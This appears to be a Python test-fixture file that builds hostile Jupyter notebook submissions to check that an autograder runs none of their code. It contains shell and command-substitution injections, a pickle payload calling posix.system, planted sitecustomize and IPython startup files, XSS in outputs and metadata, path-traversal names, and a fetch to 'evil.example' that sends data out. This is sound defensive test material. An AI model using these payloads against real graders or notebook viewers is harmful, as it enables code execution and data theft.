"""Submissions that would leave a mark if anything of them ran."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

from support.hostile_cells import without
from support.hostile_making import FILE, IDS, Corpus, Notebook, cell_of, code, filled, mark, save

CODE = Corpus()
FIRST = IDS[0]


def running(name: str, change: Callable[[Notebook, str], None], **expected: object) -> None:
    """An entry: `change(notebook, path)` puts in what would write the file `path`."""

    def write(folder: Path) -> None:
        notebook = filled()
        change(notebook, str(mark(folder)))
        save(folder, notebook)

    CODE.files(name, **expected)(write)


def python(path: str) -> str:
    """Code that writes the file `path`."""
    return f"open({path!r}, 'w').write('ran')"


def _cells(notebook: Notebook, path: str) -> None:
    notebook["cells"].insert(0, code(f"import os\n{python(path)}\nos._exit(0)"))


def _magics(notebook: Notebook, path: str) -> None:
    for source in (
        f"!touch {path}",
        f"%system touch {path}",
        f"%%bash\ntouch {path}",
        f"%%python\n{python(path)}",
        f"%%prun\n{python(path)}",
        "%load_ext evil",
        "%run evil.py",
    ):
        notebook["cells"].insert(0, code(source))


def _line(notebook: Notebook, path: str) -> None:
    rest = cell_of(notebook, FIRST)["source"][1:]
    cell_of(notebook, FIRST)["source"] = [
        f"%%prompt {FIRST}; touch {path} $(touch {path})\n",
        *rest,
    ]


def _shell(notebook: Notebook, path: str) -> None:
    rest = cell_of(notebook, FIRST)["source"][1:]
    line = f"%%prompt {FIRST} --repeats {{__import__('os').system('touch {path}')}}\n"
    cell_of(notebook, FIRST)["source"] = [line, *rest]


def _tests(notebook: Notebook, path: str) -> None:
    for name in IDS:
        cell_of(notebook, name, "score")["source"] = f"{python(path)}\n100.0"


def _setup(notebook: Notebook, path: str) -> None:
    ready = next(cell for cell in notebook["cells"] if cell["id"] == "get-ready")
    ready["source"] = (
        f"import course, course.learner.runner\n{python(path)}\ncourse.score = lambda _: 2.0"
    )


def _outputs(notebook: Notebook, path: str) -> None:
    script = "<script>fetch('//evil.example/?' + top.name)</script><img src=x onerror=alert(1)>"
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [
                {
                    "output_type": "display_data",
                    "metadata": {"isolated": False},
                    "data": {
                        "text/html": script,
                        "application/javascript": f"require('fs').writeFileSync('{path}', '')",
                        "image/svg+xml": f"<svg onload='alert(1)'>{script}</svg>",
                        "application/vnd.jupyter.widget-view+json": {"model_id": "../../evil"},
                    },
                },
                {"output_type": "stream", "name": "stdout", "text": "\x1b[2J\x1b]0;evil\x07"},
            ]


def _metadata(notebook: Notebook, path: str) -> None:
    notebook["metadata"] |= {
        "kernelspec": {
            "name": f"../../../{path}",
            "display_name": "<script>alert(1)</script>",
            "language": "bash",
            "argv": ["/bin/sh", "-c", f"touch {path}"],
            "env": {"LD_PRELOAD": "./evil.so"},
        },
        "language_info": {"name": "bash", "nbconvert_exporter": "evil.Exporter"},
        "jupytext": {"text_representation": {"extension": ".sh"}},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"../x": {}}}},
        "celltoolbar": "Create Assignment",
        "__class__": "os.system",
        "py/object": "subprocess.Popen",
    }


def _attachments(notebook: Notebook, path: str) -> None:
    for cell in notebook["cells"]:
        if cell["cell_type"] == "markdown":
            cell["attachments"] = {
                f"../../../..{path}": {"text/html": "<script>alert(1)</script>"},
                "%2e%2e/gradebook.db": {"image/png": "bm90IGEgcGljdHVyZQ=="},
            }


def _ids(notebook: Notebook, path: str) -> None:
    names = ("../../gradebook", path, "a b", "", "x" * 70_000, "$(touch x)", "<b>", "\u202e")
    for number, cell in enumerate(notebook["cells"]):
        cell["id"] = names[number % len(names)]


running("code-in-cells", _cells, stock_can_grade=False)
running("code-in-magics", _magics)
running("code-in-the-prompt-line", _line, prompts=without(FIRST), remarks=("unknown", "missing"))
running("code-in-an-option", _shell, prompts=without(FIRST), remarks=("unknown", "missing"))
running("code-in-tests", _tests)
running("code-in-the-setup-cell", _setup, stock_can_grade=False)
running("code-in-outputs", _outputs)
running("code-in-metadata", _metadata)
running("code-in-attachments", _attachments)
running("code-in-cell-ids", _ids, stock_can_grade=False)


@CODE.files("code-in-files-beside", stock_can_grade=False)
def _(folder: Path) -> None:
    save(folder, filled())
    evil = python(str(mark(folder)))
    for name in ("course.py", "grader.py", "sitecustomize.py", "json.py", "nbgrader_config.py"):
        save(folder, evil, name)
    save(folder / ".ipython" / "profile_default" / "startup", evil, "00-evil.py")
    save(folder / "course", evil, "__init__.py")
    save(folder, "import pickle", "timestamp.txt")
    save(folder, b"cposix\nsystem\n(S'touch %s'\ntR." % str(mark(folder)).encode(), "x.pkl")
    save(folder, json.dumps({"argv": ["/bin/sh", "-c", evil]}), "kernel.json")


@CODE.files(
    "code-instead-of-a-notebook", prompts={}, remarks=("not_a_notebook",), stock_can_grade=False
)
def _(folder: Path) -> None:
    save(folder, b"cposix\nsystem\n(S'touch %s'\ntR." % str(mark(folder)).encode(), FILE)
